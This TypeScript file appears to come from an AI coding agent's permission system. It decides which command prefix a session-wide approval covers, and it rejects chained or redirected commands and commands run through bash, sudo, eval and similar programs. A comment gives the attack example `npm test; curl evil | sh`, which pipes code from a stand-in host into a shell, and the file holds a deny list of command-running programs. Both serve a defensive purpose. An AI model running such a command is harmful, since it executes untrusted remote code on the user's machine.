/**
 * Shell syntax that chains, substitutes or redirects: `;`, `&` (`&&`, `&`),
 * `|` (`||`, `|`), backticks, `$(`, `<`, `>` and line breaks. A command with
 * any of them is never allowed by a prefix: `npm test; curl evil | sh` starts with `npm test` too.
 */
const CONTROL_SYNTAX = /[;&|`<>\n\r]|\$\(/;

/** Commands that run another command given as their arguments: allowing `bash …` or `sudo …` would allow everything. */
const RUNS_ANY_COMMAND = new Set([
  'bash', 'sh', 'zsh', 'dash', 'fish', 'ksh', 'env', 'sudo', 'doas', 'su', 'eval', 'exec', 'command', 'builtin',
  'source', '.', 'xargs', 'nohup', 'nice', 'timeout', 'time', 'watch', 'setsid', 'strace', 'parallel',
]);

/** A word that names a subcommand (`test`, `run`, `status`), not a flag, path or argument. */
const SUBCOMMAND = /^[a-z][a-z0-9:-]*$/i;
/** A plain program name: no assignment (`A=1 cmd`), expansion (`$X`) or quoting in it. */
const PROGRAM = /^[\w@%+,./:-]+$/;

/**
 * What `a` on a command's approval prompt allows for the rest of the session:
 * its first word, plus the second when that is a subcommand (`npm test`,
 * `git status`, `ls`). Undefined when no prefix is safe to offer: the command
 * chains or redirects (CONTROL_SYNTAX), or starts with one that runs any command (`bash -c`, `sudo`).
 */
export function sessionCommandPrefix(command: string): string | undefined {
  if (CONTROL_SYNTAX.test(command)) return undefined;
  const [program, second] = words(command);
  if (!program || !PROGRAM.test(program) || RUNS_ANY_COMMAND.has(program.split('/').pop()!)) return undefined;
  return second !== undefined && SUBCOMMAND.test(second) ? `${program} ${second}` : program;
}

/** True when `command` starts with the words of `prefix` (whole words: `npm test` does not cover `npm testing`) and has no CONTROL_SYNTAX. */
export function matchesCommandPrefix(command: string, prefix: string): boolean {
  if (CONTROL_SYNTAX.test(command)) return false;
  const commandWords = words(command);
  const prefixWords = words(prefix);
  return prefixWords.length > 0 && prefixWords.every((word, index) => commandWords[index] === word);
}

function words(text: string): string[] {
  return text.trim().split(/\s+/).filter(Boolean);
}
